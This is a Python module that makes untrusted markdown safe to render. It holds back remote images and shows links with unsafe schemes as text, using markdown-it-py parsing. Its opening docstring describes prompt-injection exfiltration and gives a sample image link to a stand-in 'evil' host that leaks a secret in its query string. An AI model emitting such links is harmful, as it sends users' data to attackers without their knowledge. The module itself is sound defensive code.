"""Markdown from outside (answers, prompts, names, titles) made safe to render or to write to a file.

A model's answer is written by whoever wrote its prompt, or by a page it read: a markdown image there
is fetched by the reader's browser or viewer the moment it is drawn, so `![x](https://evil/leak?d=SECRET)`
sends data out without a click (prompt-injection exfiltration). So every remote image is held back (the
pages draw a placeholder that names its address until the reader asks; an export writes a plain link to
it), and a link whose scheme is not http, https or mailto (javascript:, data:text/html, ...) is shown as
its text, never as a link.

The markdown is parsed by markdown-it-py (CommonMark, with tables and strikethrough), not matched with
regexes: reference-style images, images inside links, autolinks and code (left as written) are told apart
as a renderer tells them apart. The parser's link, image and autolink rules are wrapped to record where
each one sits in the text, and only those spans are rewritten.
"""

from __future__ import annotations

import functools
import re
from collections.abc import Callable
from dataclasses import dataclass, field

from markdown_it import MarkdownIt

Held = Callable[[str, str], str]  # (alt, url) -> what an image held back is written as
SAFE_SCHEMES = ("http", "https", "mailto")
URL_SHOWN = 90  # characters of an address a placeholder shows
_SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):", re.IGNORECASE)
_INVISIBLE = re.compile(r"[\x00-\x20\x7f]+")
# What starts inline markdown or a Streamlit directive (:red[..], :material/..:, $math$); a parenthesis
# means nothing once no bracket opens a link.
_PUNCT = re.compile(r"([\\`*_\[\]<>!|~:$&])")
_LEADING = re.compile(r"^(\s*)(\d*)([#+\-=.)])")  # what starts a block at the start of a line: a heading, a list


@dataclass
class Span:
    """One link, image or autolink in an inline run of text: where it sits, and what it points at."""

    kind: str  # "image" | "link" | "autolink"
    start: int
    end: int
    url: str
    alt: str = ""
    inner: list[Span] = field(default_factory=list)


@dataclass(frozen=True)
class Cleaned:
    """The markdown to render, and how many images it holds back until the reader asks for them."""

    text: str
    held_images: int = 0


def plain(text: str | None) -> str:
    """Text shown as itself in markdown (a display name, a title): every markdown character escaped."""
    text = _PUNCT.sub(r"\\\1", str(text or "").replace("\n", " "))
    return _LEADING.sub(r"\1\2\\\3", text)


def is_safe_link(url: str) -> bool:
    """Whether a link may stay clickable: http(s), mailto, or a relative address on this app."""
    scheme = _SCHEME.match(_INVISIBLE.sub("", url))
    return scheme is None or scheme.group(1).lower() in SAFE_SCHEMES


def is_remote(url: str) -> bool:
    """Whether drawing this image would make the browser ask a server for it (everything but data:image/...)."""
    bare = _INVISIBLE.sub("", url).lower()
    return not re.match(r"^data:image/(png|jpeg|gif|webp);", bare)


def clean(text: str | None, *, images: bool = False, held: Held | None = None) -> Cleaned:
    """`text` with remote images held back (unless `images`), each as `held` writes it, and unsafe links shown as
    text (as_link when `held` is None); code untouched."""
    text = text or ""
    if "[" not in text and "<" not in text:
        return Cleaned(text)  # no link, image or autolink syntax at all: the common case, parsed for nothing
    return _clean(text, images, held or as_link)


@functools.lru_cache(maxsize=512)
def _clean(text: str, images: bool, held: Held) -> Cleaned:
    """clean(), remembered: every rerun draws the stored answers again, and a long one takes a parse of ~0.1 s."""
    # The line breaks and NULs as the parser normalises them, so its line numbers are this text's.
    text = text.replace("\r\n", "\n").replace("\r", "\n").replace("\0", "\ufffd")
    env: dict = {}
    tokens = _parser().parse(text, env)
    lines = text.split("\n")
    count, found = 0, False
    for token in reversed(tokens):  # bottom up: a block rewritten to fewer lines leaves the lines above in place
        top = _nest(env.get("spans", {}).get(id(token), [])) if token.type == "inline" else []
        if not top:
            continue
        found = True
        src = token.content
        new, n = _rewrite(src, 0, len(src), top, images, held)
        count += n
        if new != src:
            first, last = token.map if token.map else (0, len(lines))
            _replace(lines, first, last, src, top, images, held)
    out = "\n".join(lines)
    if found and _drawn(out, images):  # a rewrite that missed (it should not): show all of it as text instead
        out = "\n".join(_escape_syntax(line) for line in text.split("\n"))
    return Cleaned(out, count)


def _drawn(text: str, images: bool) -> bool:
    """Whether a renderer would still draw a held-back image or an unsafe link from `text`."""
    todo = list(_parser().parse(text, {}))
    while todo:
        t = todo.pop()
        todo += t.children or []
        if t.type == "image" and not images and is_remote(t.attrGet("src") or ""):
            return True
        if t.type == "link_open" and not is_safe_link(t.attrGet("href") or ""):
            return True
    return False


# --- the parser, with its link, image and autolink rules recording where they matched ---------------------
_md: MarkdownIt | None = None


def _parser() -> MarkdownIt:
    global _md
    if _md is None:
        md = MarkdownIt("commonmark").enable(["table", "strikethrough"])
        md.validateLink = lambda url: True  # see every link, javascript: too: the browser's renderer might
        for name in ("link", "image", "autolink"):
            rule = next(r for r in md.inline.ruler.__rules__ if r.name == name)
            md.inline.ruler.at(name, _recording(rule.fn, name))
        md.core.ruler.after("inline", "spans_by_token", _spans_by_token)
        _md = md
    return _md


def _spans_by_token(state) -> None:
    """Key the spans by their inline token (later core rules replace its list of children, the first key)."""
    found = state.env.pop("_by_list", {})
    state.env["spans"] = {id(t): found[id(t.children)] for t in state.tokens
                          if t.type == "inline" and id(t.children) in found}


def _recording(rule, kind: str):
    """The rule as it was, also noting where it matched, keyed by the inline token whose children it fills."""
    opens = "image" if kind == "image" else "link_open"

    def wrapped(state, silent: bool) -> bool:
        start, before = state.pos, len(state.tokens)
        found = rule(state, silent)
        if found and not silent:
            token = next((t for t in state.tokens[before:] if t.type == opens), None)
            if token is not None:
                url = token.attrGet("src" if kind == "image" else "href")
                state.env.setdefault("_by_list", {}).setdefault(id(state.tokens), []).append(
                    Span(kind, start, state.pos, str(url or ""), token.content if kind == "image" else ""))
        return found
    return wrapped


def _nest(spans: list[Span]) -> list[Span]:
    """Spans as a tree: an image inside a link's text is the link's inner span."""
    top: list[Span] = []
    for s in sorted(spans, key=lambda s: (s.start, -s.end)):
        parent = next((t for t in reversed(top) if t.start <= s.start and s.end <= t.end), None)
        while parent is not None:
            deeper = next((t for t in reversed(parent.inner) if t.start <= s.start and s.end <= t.end), None)
            if deeper is None:
                break
            parent = deeper
        (parent.inner if parent is not None else top).append(s)
    return top


def _rewrite(src: str, lo: int, hi: int, spans: list[Span], images: bool, held: Held) -> tuple[str, int]:
    """src[lo:hi] with each span made safe; returns (text, images held back)."""
    out, cursor, count = [], lo, 0
    for s in spans:
        out.append(src[cursor:s.start])
        text, n = _one(src, s, images, held)
        out.append(text)
        count += n
        cursor = s.end
    out.append(src[cursor:hi])
    return "".join(out), count


def _one(src: str, s: Span, images: bool, held: Held) -> tuple[str, int]:
    if s.kind == "image":
        if images and is_remote(s.url) and is_safe_link(s.url):
            return src[s.start:s.end], 0
        if not is_remote(s.url):
            return src[s.start:s.end], 0
        return held(s.alt, s.url), 1
    inner, count = _rewrite(src, s.start, s.end, s.inner, images, held)
    if is_safe_link(s.url):
        return inner, count
    return f"{code(cut(inner))} *(not a safe link: not opened)*", count


def as_link(alt: str, url: str) -> str:
    """An image held back as a plain link to it (a file's reader opens it, or not): "[image: a chart](<url>)".

    An address the reader should not open (javascript:, data:text/html) is shown as code instead."""
    what = f"image: {plain(alt)}" if alt.strip() else "image"
    if not is_safe_link(url) or any(c in url for c in "<>\n"):
        return f"{what} {code(cut(url))} *(not a safe link: not opened)*"
    return f"[{what}](<{url}>)"


def cut(url: str) -> str:
    return url if len(url) <= URL_SHOWN else url[:URL_SHOWN] + "…"


def code(text: str) -> str:
    """`text` as an inline code span that no backtick inside it can close early."""
    text = text.replace("\n", " ")
    ticks = max((len(m) for m in re.findall(r"`+", text)), default=0) + 1
    fence = "`" * ticks
    pad = " " if text.startswith("`") or text.endswith("`") or not text.strip() else ""
    return f"{fence}{pad}{text}{pad}{fence}"


def _replace(lines: list[str], first: int, last: int, src: str, top: list[Span], images: bool,
             held: Held) -> None:
    """Put the rewritten spans back into the block's own lines (a blockquote's or a list's markers stay).

    The parser's text of a block is its lines without their markers and indentation, so each of its lines
    is found once in the matching line of the block. Where that does not hold, the block's link and image
    syntax is escaped instead: shown as text, never rendered.
    """
    block_lines = lines[first:last]
    starts = _line_starts(block_lines, src)
    if starts is None:
        lines[first:last] = [_escape_syntax(line) for line in block_lines]
        return

    def at(pos: int) -> int:
        k = src.count("\n", 0, pos)
        return starts[k] + pos - (src.rfind("\n", 0, pos) + 1)

    block = "\n".join(block_lines)
    out, cursor = [], 0
    for s in top:
        out += [block[cursor:at(s.start)], _one(src, s, images, held)[0]]
        cursor = at(s.end)
    out.append(block[cursor:])
    lines[first:last] = "".join(out).split("\n")


def _line_starts(block_lines: list[str], src: str) -> list[int] | None:
    """Where each line of the parser's text starts in the block (its lines joined), or None if not exactly once."""
    src_lines = src.split("\n")
    if len(src_lines) != len(block_lines):
        return None
    starts, offset = [], 0
    for line, part in zip(block_lines, src_lines, strict=True):
        at = line.find(part)
        if at < 0 or line.rfind(part) != at:
            return None
        starts.append(offset + at)
        offset += len(line) + 1
    return starts


def _escape_syntax(line: str) -> str:
    """A line whose links and images can't be placed: its brackets escaped, so none of them is rendered."""
    return re.sub(r"([\[\]<>!])", r"\\\1", line)
